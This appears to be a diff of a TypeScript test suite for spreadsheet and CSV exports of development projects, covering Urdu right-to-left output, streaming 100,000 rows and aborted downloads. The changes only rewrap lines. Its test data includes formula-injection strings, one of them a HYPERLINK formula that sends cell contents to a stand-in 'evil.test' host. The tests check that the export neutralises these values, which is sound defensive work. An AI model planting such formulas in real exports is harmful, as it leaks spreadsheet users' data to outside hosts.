@@ -20,7 +20,10 @@ import { fixture, Province, team, Team, validDraft } from '../projects/support';
 const HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"Open")', '+1+cmd', '-2+3', '@SUM(A1:A9)'];
 /** EXPORT_MAX_ROWS, set explicitly below; the bulk province holds a few more so the cap shows. */
 const ROWS = 100_000;
-/** Inserting and exporting 100,000 rows, with the rest of the suite sharing 2 cores: a bound, not a speed check (bench/exports.ts measures). */
+/**
+ * Inserting and exporting 100,000 rows, with the rest of the suite sharing 2 cores: a bound, not a speed check
+ * (bench/exports.ts measures).
+ */
 const BIG_EXPORT_TIMEOUT_MS = 300_000;
 const BEYOND_CAP = 25;
 /** A full collection costs tens of ms: the live heap is read every so many chunks, not on each. */
@@ -35,16 +38,27 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i];
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') ((field += '"'), i++);
-      else if (c === '"') quoted = false;
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
       else field += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') (row.push(field), (field = ''));
-    else if (c === '\r' && text[i + 1] === '\n') {
-      (row.push(field), rows.push(row), (row = []), (field = ''), i++);
+    else if (c === ',') {
+      row.push(field);
+      field = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      i++;
     } else field += c;
   }
-  if (field || row.length) (row.push(field), rows.push(row));
+  if (field || row.length) {
+    row.push(field);
+    rows.push(row);
+  }
   return rows;
 }
 
@@ -88,7 +102,8 @@ describe('exports (XLSX, CSV)', () => {
     otherViewer = (await h.userWithRole(other, 'viewer')).token;
     draft = await validDraft(h, t);
     const schema = schemaNameFor(kp.slug);
-    // Titles a spreadsheet would run as formulas, a negative amount (a number, not a formula), and a district to filter on.
+    // Titles a spreadsheet would run as formulas, a negative amount (a number, not a formula), and a district to filter
+    // on.
     for (const [i, title] of HOSTILE.entries()) {
       await h.dataSource.query(
         `INSERT INTO ${schema}.projects (title, current_cost, districts, sector) VALUES ($1, $2, $3, 'hostile')`,
@@ -125,74 +140,81 @@ describe('exports (XLSX, CSV)', () => {
     expect(costlyRows.map((r) => r[header.length - 1])).toEqual([draft.projectId]);
   });
 
-  test('XLSX: titles neutralised as text, a negative amount is a number cell; Urdu is right-to-left with Urdu headers', async () => {
-    const en = await xlsx(
-      (
-        await binary(h.on(kp.host).get('/api/projects/export?format=xlsx&sector=hostile&sort=title', t.viewer)).expect(
-          200,
-        )
-      ).body,
-    );
-    const sheet = en.worksheets[0];
-    expect(sheet.name).toBe('Projects');
-    expect(sheet.views[0]?.rightToLeft ?? false).toBe(false);
-    const titles = [2, 3, 4, 5].map((r) => sheet.getRow(r).getCell(1).value);
-    expect(titles).toEqual([...HOSTILE].sort().map((title) => `'${title}`));
-    const negative = [2, 3, 4, 5].map((r) => sheet.getRow(r)).find((r) => r.getCell(1).value === "'-2+3")!;
-    expect(negative.getCell(7).type).toBe(ExcelJS.ValueType.Number);
-    expect(negative.getCell(7).value).toBe(-12.5);
+  test(
+    'XLSX: titles neutralised as text, a negative amount is a number cell; ' +
+      'Urdu is right-to-left with Urdu headers',
+    async () => {
+      const en = await xlsx(
+        (
+          await binary(
+            h.on(kp.host).get('/api/projects/export?format=xlsx&sector=hostile&sort=title', t.viewer),
+          ).expect(200)
+        ).body,
+      );
+      const sheet = en.worksheets[0];
+      expect(sheet.name).toBe('Projects');
+      expect(sheet.views[0]?.rightToLeft ?? false).toBe(false);
+      const titles = [2, 3, 4, 5].map((r) => sheet.getRow(r).getCell(1).value);
+      expect(titles).toEqual([...HOSTILE].sort().map((title) => `'${title}`));
+      const negative = [2, 3, 4, 5].map((r) => sheet.getRow(r)).find((r) => r.getCell(1).value === "'-2+3")!;
+      expect(negative.getCell(7).type).toBe(ExcelJS.ValueType.Number);
+      expect(negative.getCell(7).value).toBe(-12.5);
 
-    const res = await binary(h.on(kp.host).get('/api/projects/export?format=xlsx&locale=ur', t.viewer)).expect(200);
-    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
-    const ur = (await xlsx(res.body)).worksheets[0];
-    expect(ur.name).toBe('منصوبے');
-    expect(ur.views[0].rightToLeft).toBe(true);
-    expect(ur.getRow(1).getCell(1).value).toBe('عنوان');
-    expect(ur.getRow(1).getCell(7).value).toBe('موجودہ لاگت (ملین روپے)');
-    expect(ur.rowCount).toBe(1 + HOSTILE.length + 1);
-    const draftRow = [2, 3, 4, 5, 6].map((r) => ur.getRow(r)).find((r) => r.getCell(14).value === draft.projectId)!;
-    // The workflow state by the province's Urdu name for it; the stage and status in Urdu too.
-    expect([draftRow.getCell(3).value, draftRow.getCell(4).value, draftRow.getCell(5).value]).toEqual([
-      'پی سی-I',
-      'مسودہ',
-      'زیرِ تیاری',
-    ]);
-  });
+      const res = await binary(h.on(kp.host).get('/api/projects/export?format=xlsx&locale=ur', t.viewer)).expect(200);
+      expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+      const ur = (await xlsx(res.body)).worksheets[0];
+      expect(ur.name).toBe('منصوبے');
+      expect(ur.views[0].rightToLeft).toBe(true);
+      expect(ur.getRow(1).getCell(1).value).toBe('عنوان');
+      expect(ur.getRow(1).getCell(7).value).toBe('موجودہ لاگت (ملین روپے)');
+      expect(ur.rowCount).toBe(1 + HOSTILE.length + 1);
+      const draftRow = [2, 3, 4, 5, 6].map((r) => ur.getRow(r)).find((r) => r.getCell(14).value === draft.projectId)!;
+      // The workflow state by the province's Urdu name for it; the stage and status in Urdu too.
+      expect([draftRow.getCell(3).value, draftRow.getCell(4).value, draftRow.getCell(5).value]).toEqual([
+        'پی سی-I',
+        'مسودہ',
+        'زیرِ تیاری',
+      ]);
+    },
+  );
 
-  test("a document's tables: one sheet each with the form's labels (Urdu right-to-left); one table as CSV", async () => {
-    const data = fixture('pc1-infrastructure');
-    const all = await xlsx(
-      (await binary(h.on(kp.host).get(`/api/documents/${draft.id}/export`, t.viewer)).expect(200)).body,
-    );
-    expect(all.worksheets.length).toBeGreaterThanOrEqual(4);
-    // Section 7's cost estimate: header, its rows, the totals row.
-    const estimate = all.worksheets.find((s) => s.name.startsWith('7 Item-wise'));
-    expect(estimate!.getRow(1).getCell(1).value).toBe('Item / component');
-    expect(estimate!.rowCount).toBe(1 + data.capitalCost.estimate.rows.length + 1);
-    const totals = estimate!.getRow(estimate!.rowCount);
-    expect(totals.values).toContain('Total');
-    expect(totals.values).toContain(3128.2);
+  test(
+    "a document's tables: one sheet each with the form's " + 'labels (Urdu right-to-left); one table as CSV',
+    async () => {
+      const data = fixture('pc1-infrastructure');
+      const all = await xlsx(
+        (await binary(h.on(kp.host).get(`/api/documents/${draft.id}/export`, t.viewer)).expect(200)).body,
+      );
+      expect(all.worksheets.length).toBeGreaterThanOrEqual(4);
+      // Section 7's cost estimate: header, its rows, the totals row.
+      const estimate = all.worksheets.find((s) => s.name.startsWith('7 Item-wise'));
+      expect(estimate!.getRow(1).getCell(1).value).toBe('Item / component');
+      expect(estimate!.rowCount).toBe(1 + data.capitalCost.estimate.rows.length + 1);
+      const totals = estimate!.getRow(estimate!.rowCount);
+      expect(totals.values).toContain('Total');
+      expect(totals.values).toContain(3128.2);
 
-    const res = await binary(
-      h
-        .on(kp.host)
-        .get(`/api/documents/${draft.id}/export?format=xlsx&locale=ur&table=/capitalCost/estimate`, t.viewer),
-    ).expect(200);
-    expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''`);
-    const ur = await xlsx(res.body);
-    expect(ur.worksheets).toHaveLength(1);
-    expect(ur.worksheets[0].views[0].rightToLeft).toBe(true);
-    const headers = (ur.worksheets[0].getRow(1).values as unknown[]).filter(Boolean) as string[];
-    expect(headers.length).toBeGreaterThan(2);
-    for (const header of headers) expect(header).toMatch(/[\u0600-\u06ff]/);
+      const res = await binary(
+        h
+          .on(kp.host)
+          .get(`/api/documents/${draft.id}/export?format=xlsx&locale=ur&table=/capitalCost/estimate`, t.viewer),
+      ).expect(200);
+      expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''`);
+      const ur = await xlsx(res.body);
+      expect(ur.worksheets).toHaveLength(1);
+      expect(ur.worksheets[0].views[0].rightToLeft).toBe(true);
+      const headers = (ur.worksheets[0].getRow(1).values as unknown[]).filter(Boolean) as string[];
+      expect(headers.length).toBeGreaterThan(2);
+      for (const header of headers) expect(header).toMatch(/[\u0600-\u06ff]/);
 
-    const csv = await binary(
-      h.on(kp.host).get(`/api/documents/${draft.id}/export?format=csv&table=phasing`, t.viewer),
-    ).expect(200);
-    const rows = parseCsv((csv.body as Buffer).subarray(3).toString('utf8'));
-    expect(rows).toHaveLength(1 + data.capitalCost.phasing.rows.length + 1);
-    expect(rows[rows.length - 1]).toContain('3128.200');
-  });
+      const csv = await binary(
+        h.on(kp.host).get(`/api/documents/${draft.id}/export?format=csv&table=phasing`, t.viewer),
+      ).expect(200);
+      const rows = parseCsv((csv.body as Buffer).subarray(3).toString('utf8'));
+      expect(rows).toHaveLength(1 + data.capitalCost.phasing.rows.length + 1);
+      expect(rows[rows.length - 1]).toContain('3128.200');
+    },
+  );
 
   test('bad format, locale, filter or table: 400 naming the field', async () => {
     const api = h.on(kp.host);
@@ -223,13 +245,16 @@ describe('exports (XLSX, CSV)', () => {
   });
 
   test(
-    `${ROWS.toLocaleString('en')} projects (the cap) stream as XLSX in chunks with bounded server memory, and open with every row`,
+    `${ROWS.toLocaleString('en')} projects (the cap) stream as XLSX in chunks ` +
+      `with bounded server memory, and open with every row`,
     async () => {
       const bulk = await h.provinceWithAdmin('bulk');
       [big, viewer] = [bulk, await h.userWithRole(bulk, 'viewer')];
       await h.dataSource.query(
-        `INSERT INTO ${schemaNameFor(bulk.slug)}.projects (title, current_cost, approved_cost, sector, districts, status, updated_at)
-       SELECT 'Project ' || g || ' road and bridge rehabilitation, phase ' || (g % 7), (g % 5000) + 0.125, CASE WHEN g % 3 = 0 THEN (g % 4000) + 0.5 END,
+        `INSERT INTO ${schemaNameFor(bulk.slug)}.projects (title, current_cost, approved_cost, sector, districts, ` +
+          `status, updated_at)
+       SELECT 'Project ' || g || ' road and bridge rehabilitation, phase ' || (g % 7), (g % 5000) + 0.125, ` +
+          `CASE WHEN g % 3 = 0 THEN (g % 4000) + 0.5 END,
               'sector-' || (g % 12), ARRAY['district-' || (g % 25)], 'preparation', now() - g * interval '1 minute'
          FROM generate_series(1, $1::int) g`,
         [ROWS + BEYOND_CAP],
@@ -269,7 +294,8 @@ describe('exports (XLSX, CSV)', () => {
       const peakMb = peak / 2 ** 20;
       const fileMb = file.length / 2 ** 20;
       console.log(
-        `export of ${ROWS} rows: ${fileMb.toFixed(1)} MB in ${chunks} chunks, peak live heap growth ${peakMb.toFixed(1)} MB`,
+        `export of ${ROWS} rows: ${fileMb.toFixed(1)} MB in ${chunks} chunks, ` +
+          `peak live heap growth ${peakMb.toFixed(1)} MB`,
       );
       expect(chunks).toBeGreaterThan(50);
       expect(peakMb).toBeLessThan(fileMb / 2);
@@ -303,34 +329,42 @@ describe('exports (XLSX, CSV)', () => {
     BIG_EXPORT_TIMEOUT_MS,
   );
 
-  test('a client that leaves mid-download stops the export: its transaction ends and the server carries on', async () => {
-    expect(big).toBeDefined();
-    // The export's cursor lives in a transaction of its own; once the server notices, it rolls back.
-    const open = () =>
-      h.dataSource.query(
-        `SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND (state LIKE 'idle in transaction%' OR query LIKE 'FETCH%project_scan%') AND pid <> pg_backend_pid()`,
-      );
-    for (const format of ['csv', 'xlsx']) {
-      const url = new URL(`/api/projects/export?format=${format}`, h.url);
-      await new Promise<void>((resolve, reject) => {
-        const req = http.get(url, { headers: { Host: big!.host, Authorization: `Bearer ${viewer.token}` } }, (res) => {
-          res.once('data', () => {
-            req.destroy();
-            resolve();
-          });
-        });
-        req.on('error', (error) =>
-          (error as NodeJS.ErrnoException).code === 'ECONNRESET' ? undefined : reject(error),
+  test(
+    'a client that leaves mid-download stops the export: ' + 'its transaction ends and the server carries on',
+    async () => {
+      expect(big).toBeDefined();
+      // The export's cursor lives in a transaction of its own; once the server notices, it rolls back.
+      const open = () =>
+        h.dataSource.query(
+          `SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() ` +
+            `AND (state LIKE 'idle in transaction%' OR query LIKE 'FETCH%project_scan%') AND pid <> pg_backend_pid()`,
         );
-      });
-      for (let attempt = 0; (await open())[0].n > 0; attempt++) {
-        if (attempt > 200) throw new Error(`the ${format} export's transaction was never closed`);
-        await new Promise((r) => setTimeout(r, 50));
+      for (const format of ['csv', 'xlsx']) {
+        const url = new URL(`/api/projects/export?format=${format}`, h.url);
+        await new Promise<void>((resolve, reject) => {
+          const req = http.get(
+            url,
+            { headers: { Host: big!.host, Authorization: `Bearer ${viewer.token}` } },
+            (res) => {
+              res.once('data', () => {
+                req.destroy();
+                resolve();
+              });
+            },
+          );
+          req.on('error', (error) =>
+            (error as NodeJS.ErrnoException).code === 'ECONNRESET' ? undefined : reject(error),
+          );
+        });
+        for (let attempt = 0; (await open())[0].n > 0; attempt++) {
+          if (attempt > 200) throw new Error(`the ${format} export's transaction was never closed`);
+          await new Promise((r) => setTimeout(r, 50));
+        }
       }
-    }
-    const again = await binary(
-      h.on(big!.host).get('/api/projects/export?format=csv&q=Project%2012345', viewer.token),
-    ).expect(200);
-    expect(parseCsv((again.body as Buffer).subarray(3).toString('utf8')).length).toBeGreaterThan(1);
-  });
+      const again = await binary(
+        h.on(big!.host).get('/api/projects/export?format=csv&q=Project%2012345', viewer.token),
+      ).expect(200);
+      expect(parseCsv((again.body as Buffer).subarray(3).toString('utf8')).length).toBeGreaterThan(1);
+    },
+  );
 });
